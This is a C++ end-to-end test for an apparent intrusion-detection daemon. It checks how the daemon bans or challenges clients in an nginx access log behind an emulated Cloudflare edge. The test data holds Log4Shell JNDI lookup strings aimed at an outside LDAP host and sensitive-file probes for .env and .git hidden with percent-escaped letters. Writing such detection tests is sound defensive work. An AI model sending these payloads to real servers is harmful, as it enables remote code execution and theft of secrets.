// End to end with Debian's nginx as the server that writes the log: nginx on loopback behind a
// pretend Cloudflare (realip takes the client from CF-Connecting-IP, as an origin behind
// Cloudflare does), its combined access log followed by the real palisaded (a file input), the
// shipped web-attacks pack, the Cloudflare emulator as the edge.
// A scanner that spells its probes with escapes of letters ("/.%65nv") gets the file it asked
// for from nginx, which decodes the path before it picks the file, and must be banned as the
// same probes written plainly would be; a client whose escapes are encoded twice
// ("/.%2565nv": nginx looks for a file named ".%65nv") probed nothing and is not.
// What a page can make a visitor's browser send (a URL, a referer) is answered with a managed
// challenge, through an access rule: a forum post embedding <img src="/?q=${jndi:...}"> must not
// ban its readers. A payload in the user agent, which no page can set, is blocked (the IP list),
// also when the same line holds it in the URL too: the block must not wait behind the challenge,
// nor when a later line of a challenged client holds it (the block replaces the challenge).
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <map>
#include <set>
#include <string>

#include "absl/strings/str_cat.h"
#include "absl/time/time.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"
#include "palisade/v1/palisade.grpc.pb.h"
#include "tests/e2e/daemon.h"

namespace palisade {
namespace {

using ::palisade::testing::ActionsPending;
using ::palisade::testing::Daemon;
using ::palisade::testing::Emulator;
using ::palisade::testing::EmulatorListedValues;
using ::palisade::testing::EmulatorState;
using ::palisade::testing::FreeLoopbackPort;
using ::palisade::testing::RunShell;
using ::palisade::testing::WaitFor;

constexpr char kNginx[] = "/usr/sbin/nginx";
constexpr char kScanner[] = "198.51.100.77";
constexpr char kDoubleEncoder[] = "198.51.100.78";
constexpr char kVisitor[] = "198.51.100.79";        // a browser made to send a payload
constexpr char kAgentAttacker[] = "198.51.100.80";  // a payload in its user agent
constexpr char kBothAttacker[] = "198.51.100.81";   // the payload in its URL and user agent
constexpr char kChrome[] =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36";

// The emulator's access rules as value -> mode.
std::map<std::string, std::string> AccessRuleModes(const Emulator& emulator) {
  std::map<std::string, std::string> out;
  nlohmann::json state = EmulatorState(emulator);
  if (!state.is_object() || !state.contains("access_rules")) return out;
  for (const auto& r : state["access_rules"]) {
    out[r["configuration"]["value"].get<std::string>()] = r["mode"].get<std::string>();
  }
  return out;
}

// nginx (its master and one worker) serving `root` on 127.0.0.1:port, writing `access_log`;
// stopped when this goes.
class Nginx {
 public:
  Nginx(const std::string& dir, const std::string& root, const std::string& access_log)
      : dir_(dir), port_(FreeLoopbackPort()) {
    conf_ = dir + "/nginx.conf";
    // Started as root, nginx would run its worker as www-data, which cannot read the test's
    // directory: the worker stays the test's user.
    std::ofstream(conf_, std::ios::trunc) << absl::StrCat(
        geteuid() == 0 ? "user root root;\n" : "", "worker_processes 1;\n"
        "pid ", dir, "/nginx.pid;\n"
        "error_log ", dir, "/error.log;\n"
        "events {}\n"
        "http {\n"
        "  access_log ", access_log, " combined;\n"
        "  client_body_temp_path ", dir, "/body; proxy_temp_path ", dir, "/proxy;\n"
        "  fastcgi_temp_path ", dir, "/fastcgi; uwsgi_temp_path ", dir, "/uwsgi;\n"
        "  scgi_temp_path ", dir, "/scgi;\n"
        "  set_real_ip_from 127.0.0.1;\n"
        "  real_ip_header CF-Connecting-IP;\n"
        "  server {\n"
        "    listen 127.0.0.1:", port_, ";\n"
        "    root ", root, ";\n"
        "  }\n"
        "}\n");
    int code = -1;
    output_ = RunShell(absl::StrCat(kNginx, " -p ", dir, " -c ", conf_, " 2>&1"), &code);
    started_ = code == 0;
  }
  ~Nginx() {
    if (started_) {
      int code = -1;
      RunShell(absl::StrCat(kNginx, " -p ", dir_, " -c ", conf_, " -s stop 2>&1"), &code);
    }
  }
  bool started() const { return started_; }
  const std::string& output() const { return output_; }

  // GET `path` as written (curl --path-as-is, no globbing of {}), from `client` as Cloudflare
  // would name it, with `agent` and `referer` when not empty: the status code nginx answered.
  // None of the strings may hold a single quote (they are quoted for the shell).
  std::string Get(const std::string& path, const std::string& client,
                  const std::string& agent = "", const std::string& referer = "") const {
    int code = -1;
    return RunShell(absl::StrCat("curl -s -g --path-as-is -o /dev/null -w '%{http_code}' -H "
                                 "'CF-Connecting-IP: ",
                                 client, "'", agent.empty() ? "" : " -A '", agent,
                                 agent.empty() ? "" : "'", referer.empty() ? "" : " -e '",
                                 referer, referer.empty() ? "" : "'", " 'http://127.0.0.1:",
                                 port_, path, "'"),
                    &code);
  }

 private:
  std::string dir_, conf_, output_;
  int port_;
  bool started_ = false;
};

TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) {
  ASSERT_EQ(access(kNginx, X_OK), 0) << kNginx << " is missing: bash tools/setup.sh installs it";
  const std::string dir = std::getenv("TEST_TMPDIR");
  const std::string root = dir + "/www";
  const std::string log = dir + "/access.log";
  int code = -1;
  RunShell(absl::StrCat("mkdir -p ", root, "/.git && echo SECRET=1 > ", root,
                        "/.env && echo ref > ", root, "/.git/HEAD && echo x > ", root,
                        "/.git/config"),
           &code);
  ASSERT_EQ(code, 0);
  std::remove(log.c_str());

  absl::StatusOr<std::unique_ptr<Emulator>> cf = Emulator::Start();
  ASSERT_TRUE(cf.ok()) << cf.status();
  const std::string config = ::palisade::testing::WriteEdgeConfig(
      **cf, (*cf)->token_file(), {"rules/web-attacks.textproto"},
      absl::StrCat("inputs { files { name: \"nginx\" paths: \"", log,
                   "\" format: \"combined\" time_zone: \"UTC\" } poll_interval { nanos: 50000000 } "
                   "}\n"));
  absl::StatusOr<std::unique_ptr<Daemon>> daemon =
      Daemon::Start({"--config=" + config, "--shutdown_grace=200ms"});
  ASSERT_TRUE(daemon.ok()) << daemon.status();
  Nginx nginx(dir, root, log);
  ASSERT_TRUE(nginx.started()) << nginx.output();

  // First the client encoding twice: five requests nginx answers 404 (no file ".%65nv").
  for (int i = 0; i < 5; ++i) EXPECT_EQ(nginx.Get("/.%2565nv", kDoubleEncoder), "404");
  // Then the scanner: web-sensitive-file-probe's five probes in a minute, each spelt with
  // escapes of letters; nginx decodes them and serves the secrets.
  for (const char* path : {"/.%65nv", "/.%65%6ev", "/%2E%65nv", "/.%67it/HEAD", "/.g%69t/config"}) {
    EXPECT_EQ(nginx.Get(path, kScanner), "200") << path;
  }

  // A reader of a page that embeds a Log4Shell URL: the browser sends it, with the page as the
  // referer. And a client with the lookup in its user agent, which no page can set.
  EXPECT_FALSE(nginx.Get("/?q=${jndi:ldap://x.example/a}", kVisitor, kChrome,
                         "https://forum.example/t/123")
                   .empty());
  EXPECT_FALSE(nginx.Get("/", kAgentAttacker, "${jndi:ldap://192.0.2.66:1389/a}").empty());
  // And one with the lookup in both: web-log4shell and web-log4shell-agent match the same line,
  // and the block must come.
  EXPECT_FALSE(nginx.Get("/?q=${jndi:ldap://192.0.2.66:1389/a}", kBothAttacker,
                         "${jndi:ldap://192.0.2.66:1389/a}")
                   .empty());

  // The scanner (web-sensitive-file-probe) and the visitor (web-log4shell) get a managed
  // challenge through an access rule; the user-agent payload (web-log4shell-agent) a block on
  // the edge's IP list, also for the client with the payload in both places.
  std::map<std::string, std::string> modes;
  const bool decided = WaitFor(
      [&] {
        modes = AccessRuleModes(**cf);
        return modes.count(kScanner) == 1 && modes.count(kVisitor) == 1 &&
               EmulatorListedValues(**cf).count(kAgentAttacker) == 1 &&
               EmulatorListedValues(**cf).count(kBothAttacker) == 1 &&
               ActionsPending(**daemon) == 0;
      },
      absl::Seconds(60));
  ASSERT_TRUE(decided) << EmulatorState(**cf).dump(2);
  EXPECT_EQ(modes, (std::map<std::string, std::string>{{kScanner, "managed_challenge"},
                                                       {kVisitor, "managed_challenge"}}));
  // The double encoder's lines came first in the file, so they were read: nothing decided.
  auto channel = grpc::CreateChannel((*daemon)->grpc_address(), grpc::InsecureChannelCredentials());
  grpc::ClientContext ctx;
  palisade::v1::ListDecisionsRequest request;
  request.set_target(kDoubleEncoder);
  palisade::v1::ListDecisionsResponse response;
  ASSERT_TRUE(palisade::v1::Decisions::NewStub(channel)->List(&ctx, request, &response).ok());
  EXPECT_EQ(response.decisions_size(), 0) << response.DebugString();
  EXPECT_EQ(EmulatorListedValues(**cf), (std::set<std::string>{kAgentAttacker, kBothAttacker}));

  // The scanner, challenged for its probes, then sends the lookup in its user agent: the block
  // outranks the challenge and replaces it at the edge, the list item in and the access rule
  // out (before 2026-12-07 the block waited behind the challenge until the challenge ended).
  EXPECT_FALSE(nginx.Get("/", kScanner, "${jndi:ldap://192.0.2.66:1389/a}").empty());
  const bool replaced = WaitFor(
      [&] {
        return EmulatorListedValues(**cf).count(kScanner) == 1 &&
               AccessRuleModes(**cf).count(kScanner) == 0 && ActionsPending(**daemon) == 0;
      },
      absl::Seconds(60));
  ASSERT_TRUE(replaced) << EmulatorState(**cf).dump(2);
  EXPECT_EQ(AccessRuleModes(**cf),
            (std::map<std::string, std::string>{{kVisitor, "managed_challenge"}}));
}

}  // namespace
}  // namespace palisade
